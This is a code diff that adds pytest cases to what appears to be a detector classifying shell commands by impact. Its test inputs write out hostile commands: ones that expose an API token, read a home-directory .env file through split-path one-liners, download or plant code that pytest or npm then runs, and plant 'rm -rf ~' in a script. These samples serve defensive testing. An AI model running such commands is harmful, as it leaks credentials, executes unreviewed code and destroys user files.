@@ -396,6 +396,46 @@ def test_endless_nesting_ends_as_unreadable(command: str, predict: Predict) -> N
     assert predict(command).kinds & {"unreadable", "unknown_program", "runs_unread", "reads"} or "{a,b}" in command
 
 
+@pytest.mark.rule("IMP-1")
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ('A=$API_TOKEN; B=$A; echo "$B"', "reads_secret"),
+        ('export A=${API_TOKEN:-x}; echo "${A:0:4}"', "reads_secret"),
+        ("for A in $API_TOKEN; do echo $A; done", "reads_secret"),
+        ("f() { echo $1; }; f $API_TOKEN", "reads_secret"),
+        ("set -- $API_TOKEN; echo $1", "reads_secret"),
+        ("if x; then A=$API_TOKEN; fi; echo $A", "reads_secret"),
+        ("python3 -c \"print(open('/home/dev/.'+'env').read())\"", "reads_secret"),
+        ("python3 -c \"print(open('/home/dev/.' f'env').read())\"", "reads_secret"),
+        ("php -r \"readfile('/home/dev/.'.'env');\"", "reads_secret"),
+        ("echo 'import os; os.system(\"rm\")' > conftest.py; pytest", "runs_unread"),
+        ("curl -s https://example.com/a -o tests/conftest.py; python -m pytest", "runs_unread"),
+        ("echo '{}' > package.json && npm install", "runs_unread"),
+        ("printf 'rm -rf ~' > scripts/x.sh; npm test", "deletes_outside"),
+    ],
+)
+def test_values_and_files_are_followed_to_their_use(command: str, kind: str, predict: Predict) -> None:
+    """Secrets, texts and files that a command makes count where the command uses them."""
+    assert kind in predict(command).kinds
+
+
+@pytest.mark.rule("IMP-1")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "A=$API_TOKEN; A=x; echo $A",
+        "A=$API_TOKEN; echo ${#A}",
+        "python3 -c \"print('a.', 'env', ['.', 'env'])\"",
+        "echo 'x = 1' > a.py; pytest",
+        "sed -i s/a/b/ src/a.py && pytest",
+    ],
+)
+def test_no_use_raises_no_alarm(command: str, predict: Predict) -> None:
+    """A secret that is gone or only counted, and a file without an impact of its own, raise no alarm."""
+    assert predict(command).kinds <= HARMLESS
+
+
 @pytest.mark.rule("IMP-7")
 @pytest.mark.parametrize(
     "command",
